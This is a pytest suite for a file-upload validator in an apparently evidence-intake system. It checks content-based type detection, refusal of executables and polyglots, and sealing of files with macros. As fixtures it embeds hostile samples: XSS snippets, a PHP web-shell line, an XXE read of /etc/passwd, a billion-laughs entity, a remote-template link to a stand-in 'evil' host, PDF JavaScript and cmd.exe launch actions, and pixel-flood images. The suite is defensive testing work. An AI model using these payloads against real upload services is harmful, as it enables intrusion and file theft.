"""Files before anything of them is opened: every limit on both sides, every lie named, every danger kept closed."""

from __future__ import annotations

import struct
from dataclasses import replace

import pytest

from ipenforce.errors import Refused
from ipenforce.evidence.limits import LIMITS
from tests.evidence import samples
from tests.evidence.conftest import Seen
from tests.evidence.samples import SMALL


@pytest.mark.parametrize("name", samples.taken())
def test_a_file_is_taken_under_its_own_ending_and_no_other(name: str, seen: Seen) -> None:
    content = samples.taken()[name]
    assert seen(name, content).media_type
    other = "清单.jpg" if not name.endswith(".jpg") else "清单.png"
    with pytest.raises(Refused) as refused:
        seen(other, content)
    assert (refused.value.field, refused.value.status) == ("file", 422)
    asked = seen(other, content, sealed=True)
    assert asked.sealed and not asked.picture and asked.note.startswith("按封存原件收取")


def test_a_lie_is_named(seen: Seen) -> None:
    with pytest.raises(Refused, match="扩展名“png”与内容（JPEG图片）不符，应为 jpg"):
        seen("照片.png", samples.picture())
    with pytest.raises(Refused, match="不收取这类文件（Windows程序）"):
        seen("照片.jpg", b"MZ\x90" + bytes(100))
    with pytest.raises(Refused, match="不收取这类文件（网页）"):
        seen("说明.txt", b"\xef\xbb\xbf \n<!DOCTYPE HTML><html>")


ACTING = {
    "a.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "a.html": b"<html><script>alert(1)</script>", "a.xml": b"<?xml version='1.0'?><a/>",
    "a.js": b"alert(1)", "a.sh": b"#!/bin/sh\nid\n", "a.bat": b"@echo off\r\n", "a.php": b"<?php system('id');", "a.exe": b"MZ" + bytes(200),
    "a.elf": b"\x7fELF" + bytes(60), "a.mht": b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n", "a.lnk": b"L\0\0\0\x01\x14\x02\0" + bytes(60),
    "a.jar": samples.archive(("META-INF/MANIFEST.MF", b"x")), "a.gif": b"GIF89a" + bytes(20), "a.tar.gz": b"\x1f\x8b\x08" + bytes(20), "a.db": b"SQLite format 3\0" + bytes(90),
}  # fmt: skip


@pytest.mark.parametrize("name", ACTING)
def test_what_acts_is_refused_unless_it_is_taken_sealed(name: str, seen: Seen) -> None:
    for ending in (name, "a.txt", "a.jpg"):
        with pytest.raises(Refused):
            seen(ending, ACTING[name]) if not (name in ("a.js", "a.bat") and ending == "a.txt") else seen("a.jpg", ACTING[name])
        asked = seen(ending, ACTING[name], sealed=True)
        assert asked.sealed and not asked.picture


def test_text_is_decoded_strictly(seen: Seen) -> None:
    assert seen("a.txt", "甲乙\t丙\r\n\f".encode("gb18030")).media_type == "text/plain"
    for content in (b"\xff\xff\x80", b"a\x00b", b"\x1b\x01", "甲".encode()[:1], b"\xff\xfea"):
        with pytest.raises(Refused):
            seen("a.txt", content)


def test_what_is_too_long_to_be_searched_is_refused_or_kept_closed(seen: Seen) -> None:
    pdf = samples.pdf()
    assert not seen("a.pdf", pdf, limits=replace(LIMITS, searched=len(pdf))).sealed
    assert seen("a.pdf", pdf, limits=replace(LIMITS, searched=len(pdf) - 1)).note == "部分内容未检查"
    assert seen("a.txt", b"abc", limits=replace(LIMITS, searched=3)).media_type == "text/plain"
    with pytest.raises(Refused, match="文本超过"):
        seen("a.txt", b"abcd", limits=replace(LIMITS, searched=3))


PIXELS = {"JPEG": "a.jpg", "PNG": "a.png", "WEBP": "a.webp", "TIFF": "a.tif", "BMP": "a.bmp"}


@pytest.mark.parametrize("kind", PIXELS)
def test_pictures_are_measured_by_their_header_on_both_sides_of_the_limit(kind: str, seen: Seen) -> None:
    assert seen(PIXELS[kind], samples.picture(kind, (64, 48)), limits=SMALL).picture
    with pytest.raises(Refused, match="图片超过"):
        seen(PIXELS[kind], samples.picture(kind, (64, 49)), limits=SMALL)
    assert seen(PIXELS[kind], samples.picture(kind, (64, 49)), limits=SMALL, sealed=True).note == "按封存原件收取（图片超过0万像素）"


def test_a_lossless_and_an_extended_webp_are_measured_too(seen: Seen) -> None:
    for given in ({"lossless": True}, {"exif": b"Exif\0\0"}):
        with pytest.raises(Refused, match="图片超过"):
            seen("a.webp", samples.picture("WEBP", (64, 49), **given), limits=SMALL)


def test_a_heic_is_measured_where_it_states_its_size(seen: Seen) -> None:
    content = samples.taken()["照片.heic"]
    assert not seen("a.heic", content).sealed
    with pytest.raises(Refused, match="图片超过"):
        seen("a.heic", content, limits=SMALL)
    assert seen("a.heic", content[:24]).note == "文件不完整"


def test_the_pixel_flood_is_refused(seen: Seen) -> None:
    flood = samples.png_of(20_000, 20_000)
    assert len(flood) < 60_000
    for content in (flood, samples.png_of(12_000, 12_000)):
        with pytest.raises(Refused, match="图片超过12000万像素"):
            seen("a.png", content)


def test_a_tiff_whose_pages_run_in_a_circle_is_refused(seen: Seen) -> None:
    entry = struct.pack("<HHLL", 256, 4, 1, 10) + struct.pack("<HHLL", 257, 4, 1, 10)
    circle = b"II*\0" + struct.pack("<L", 8) + struct.pack("<H", 2) + entry + struct.pack("<L", 8)
    with pytest.raises(Refused, match="图片超过"):
        seen("a.tif", circle)
    chain = b"II*\0" + struct.pack("<L", 8) + b"".join(
        struct.pack("<H", 2) + entry + struct.pack("<L", 8 + 30 * (place + 1) if place < 3 else 0) for place in range(4)
    )
    assert seen("a.tif", chain).media_type == "image/tiff"
    with pytest.raises(Refused, match="图片超过"):
        seen("a.tif", chain, limits=SMALL)


def test_big_tiffs_are_measured(seen: Seen) -> None:
    entry = struct.pack("<HHQQ", 256, 4, 1, 64) + struct.pack("<HHQQ", 257, 4, 1, 49)
    content = b"II+\0\x08\0\0\0" + struct.pack("<Q", 16) + struct.pack("<Q", 2) + entry + bytes(8)
    assert seen("a.tif", content).picture
    with pytest.raises(Refused, match="图片超过"):
        seen("a.tif", content, limits=SMALL)


MACROS = {
    "a.docm": samples.office_with(samples.word(), ("word/vbaProject.bin", b"x")), "a.docx": samples.office_with(samples.word(), ("word/embeddings/oleObject1.bin", b"x")),
    "a.xlsm": samples.office_with(samples.excel(), ("xl/vbaProject.bin", b"x")), "a.xlsx": samples.office_with(samples.excel(), ("xl/activeX/activeX1.xml", b"<a/>")),
    "b.docx": samples.office_with(samples.word(), ("word/_rels/settings.xml.rels", b'<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>')),
    "a.doc": samples.ole("WordDocument", "Macros", "VBA"), "a.xls": samples.ole("Workbook", "_VBA_PROJECT_CUR"), "a.ppt": samples.ole("PowerPoint Document", "\x01Ole10Native"),
    "a.pdf": samples.pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "b.pdf": samples.pdf(b"<< /S /Launch /F (cmd.exe) >>"),
    "c.pdf": samples.pdf(b"<< /S /J#61vaScript /JS (x) >>"), "d.pdf": samples.pdf(samples.packed_objects(b"1 0 << /S /JavaScript >>")),
    "e.pdf": samples.pdf(b"<< /Type /ObjStm /Filter /LZWDecode /Length 4 >>\nstream\nabcd\nendstream"),
}  # fmt: skip


@pytest.mark.parametrize("name", MACROS)
def test_what_would_act_in_a_document_is_flagged_and_kept_closed(name: str, seen: Seen) -> None:
    found = seen(name, MACROS[name])
    assert found.sealed and "含可执行内容" in found.note


def test_attachments_and_locks_of_documents_are_noted(seen: Seen) -> None:
    assert seen("a.pdf", samples.pdf(b"<< /Type /EmbeddedFile >>")).note == "含附件，附件未检查"
    assert seen("a.pdf", samples.pdf(trailer=b"/Encrypt 9 0 R")).note == "已加密，内容未检查"
    assert seen("a.pdf", samples.pdf(end=b"")).note == "文件不完整"
    assert seen("a.doc", samples.ole("EncryptedPackage", "EncryptionInfo")).note == "已加密，内容未检查"


def test_entities_in_an_office_document_are_refused(seen: Seen) -> None:
    laughs = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><w:document>&b;</w:document>'
    outside = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document>&a;</w:document>'
    late = b"<!-- " + b"x" * 100_000 + b"-->" + laughs
    for content in (laughs, outside, late, laughs.decode().encode("utf-16")):
        with pytest.raises(Refused, match="外部实体"):
            seen("a.docx", samples.office_with(samples.word(), ("word/document.xml", content)))


def test_an_ole_file_that_is_no_document_or_whose_directory_is_broken_is_refused(seen: Seen) -> None:
    with pytest.raises(Refused, match="不收取这类文件"):
        seen("a.doc", samples.ole("Msi"))
    whole = samples.ole("WordDocument")
    circle = bytearray(whole)
    circle[512 + 4 : 512 + 8] = struct.pack("<L", 1)
    for content in (whole[:600], whole[:1024], bytes(circle), whole[:30] + b"\xff\xff" + whole[32:]):
        with pytest.raises(Refused):
            seen("a.doc", content)


POLYGLOTS = {
    "a.jpg": (samples.picture() + b"<?php system($_GET[1]); ?>", samples.picture()[:2] + b"\xff\xfe\0\x1e<script>alert(1)</script>" + samples.picture()[2:], samples.picture() + samples.archive(("a", b"b"))),
    "a.png": (samples.picture("PNG") + samples.archive(("index.html", b"<script>")), samples.picture("PNG") + b"<svg onload=alert(1)>"),
    "a.pdf": (samples.pdf() + samples.archive(("a", b"b")), samples.pdf(b"(<html><script>alert(1)</script>)")),
}


@pytest.mark.parametrize("name", POLYGLOTS)
def test_a_file_that_is_two_things_is_kept_closed(name: str, seen: Seen) -> None:
    for content in POLYGLOTS[name]:
        found = seen(name, content)
        assert found.sealed and not found.picture and "疑似多重格式文件" in found.note


def test_a_pdf_behind_other_bytes_and_a_gif_with_script_are_refused(seen: Seen) -> None:
    for content in (b"GIF89a/*" + samples.pdf(), b"#!/bin/sh\n" + samples.pdf(), b"GIF89a=1;alert(1)"):
        with pytest.raises(Refused):
            seen("a.pdf", content)
